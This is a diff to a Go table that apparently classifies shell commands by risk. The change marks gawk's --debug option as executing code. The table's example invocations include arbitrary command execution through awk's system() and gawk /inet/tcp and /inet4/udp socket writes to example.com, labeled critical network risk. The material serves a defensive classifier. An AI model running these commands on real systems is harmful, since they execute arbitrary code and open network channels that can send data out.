@@ -40,7 +40,7 @@ var text = []Entry{
 	},
 	{
 		Name: "awk gawk mawk nawk original-awk", Source: "gawk(1), gawk 5.3; mawk(1)", Level: low, Operands: "text read...", Special: Awk,
-		Options:  `-bcCghMnNOPrstSI -F,--field-separator= -v,--assign= -f,--file=:script -e,--source= -E,--exec=:script -i,--include= -l,--load= -d?=:write --dump-variables?=:write -D?= -L?= -o?=:write --pretty-print?=:write -p?=:write --profile?=:write -W= --characters-as-bytes --traditional --lint?= --posix --re-interval --sandbox --non-decimal-data --bignum --csv -k --optimize --use-lc-numeric --gen-pot`,
+		Options:  `-bcCghMnNOPrstSI -F,--field-separator= -v,--assign= -f,--file=:script -e,--source= -E,--exec=:script -i,--include= -l,--load= -d?=:write --dump-variables?=:write -D,--debug?=:executes -L?= -o?=:write --pretty-print?=:write -p?=:write --profile?=:write -W= --characters-as-bytes --traditional --lint?= --posix --re-interval --sandbox --non-decimal-data --bignum --csv -k --optimize --use-lc-numeric --gen-pot`,
 		Examples: "low | awk '{print $2, $11}' data.txt\nlow | awk -F: '$3 > 100 {c++} END {print c}' users.txt\nmedium FS_DELETE_OVERWRITE | awk '{print > \"out.txt\"}' notes.txt\nmedium..high EXEC_ARBITRARY | awk 'BEGIN{system(\"id\")}'\nmedium | gawk -i inplace '{print}' notes.txt\ncritical NETWORK_RISK | gawk 'BEGIN{f=\"/inet/tcp/0/example.com/80\"; print \"x\" |& f}' a\ncritical NETWORK_RISK | gawk -v f=/inet/tcp/0/example.com/80 '{print > f}' a\ncritical NETWORK_RISK | gawk '{print > f}' f=/inet4/udp/0/example.com/53 a\ncritical NETWORK_RISK | awk '{print}' /inet/tcp/0/example.com/80\nlow | gawk '/inet/{print}' a",
 	},
 	{
